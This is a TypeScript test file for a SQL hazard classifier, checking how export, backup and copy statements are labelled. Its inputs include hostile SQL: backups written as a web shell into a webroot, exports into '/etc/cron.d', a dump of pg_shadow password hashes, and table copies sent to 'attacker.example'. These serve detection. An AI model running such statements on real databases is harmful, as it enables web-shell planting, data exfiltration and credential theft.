import { expectHazards } from './read.ts';

// Rows into a bucket: whose it is does not show, so that a person looks at it.
expectHazards([
  [
    "UNLOAD ('SELECT id FROM sales') TO 's3://our-bucket/out/' IAM_ROLE 'arn:aws:iam::1:role/r'",
    'writes-address',
  ],
  ["UNLOAD (SELECT id FROM sales) TO 's3://our-bucket/out/' WITH (format = 'PARQUET')", 'writes-address'],
  [
    "EXPORT DATA OPTIONS (format = 'CSV', uri = 'gs://our-bucket/out-*.csv') AS SELECT id FROM sales",
    'writes-address',
  ],
  ["COPY INTO 's3://our-bucket/out/' FROM sales FILE_FORMAT = (TYPE = CSV)", 'writes-address'],
  ["COPY INTO 'azure://account.blob.core.windows.net/out/' FROM sales", 'writes-address'],
  ["COPY (SELECT id FROM sales) TO 's3://our-bucket/sales.parquet' (FORMAT PARQUET)", 'writes-address'],
  ["SELECT id FROM sales INTO OUTFILE S3 's3-us-east-1://our-bucket/sales'", 'writes-address'],
]);
expectHazards(
  [
    ["BACKUP DATABASE shop TO URL = 'https://shop.blob.core.windows.net/backups/shop.bak'", 'writes-data'],
    ["BACKUP DATABASE shop TO DISK = N'D:\\Backups\\shop.bak' WITH COMPRESSION", 'writes-data'],
    ["BACKUP DATABASE shop TO DISK = N'C:\\inetpub\\wwwroot\\shop.bak'", 'writes-files'],
    ["BACKUP LOG shop TO DISK = N'C:\\inetpub\\wwwroot\\shell.aspx'", 'writes-files'],
    ["BACKUP DATABASE shop TO DISK = N'\\\\198.51.100.7\\share\\shop.bak'", 'writes-files'],
  ],
  'mssql',
);
expectHazards(
  [
    ["EXPORT DATABASE 'backup_2024' (FORMAT PARQUET)", ''],
    ["EXPORT DATABASE '/etc/cron.d'", 'writes-files'],
    ["EXPORT DATABASE '../../home'", 'writes-files'],
  ],
  'duckdb',
);

// Under keys of its own a statement writes to an account that is not the server's; what is no bucket is no storage.
expectHazards([
  ["UNLOAD ('SELECT id FROM sales') TO 's3://other/x' ACCESS_KEY_ID 'k' SECRET_ACCESS_KEY 's'", 'network'],
  [
    "UNLOAD ('SELECT id FROM sales') TO 's3://other/x' CREDENTIALS 'aws_access_key_id=k;aws_secret_access_key=s'",
    'network',
  ],
  ["COPY INTO 's3://other/' FROM sales CREDENTIALS = (AWS_KEY_ID = 'k' AWS_SECRET_KEY = 's')", 'network'],
  [
    "UNLOAD ('SELECT usename, passwd FROM pg_shadow') TO 's3://our-bucket/x' IAM_ROLE 'r'",
    'reads-credentials writes-address',
  ],
  ["COPY (SELECT id FROM sales) TO 'https://attacker.example/x.csv'", 'writes-files'],
  ["COPY (SELECT id FROM sales) TO 's3://198.51.100.7/x.csv'", 'writes-files'],
  ["SELECT id FROM sales INTO OUTFILE '/var/www/html/x.php'", 'writes-files'],
]);
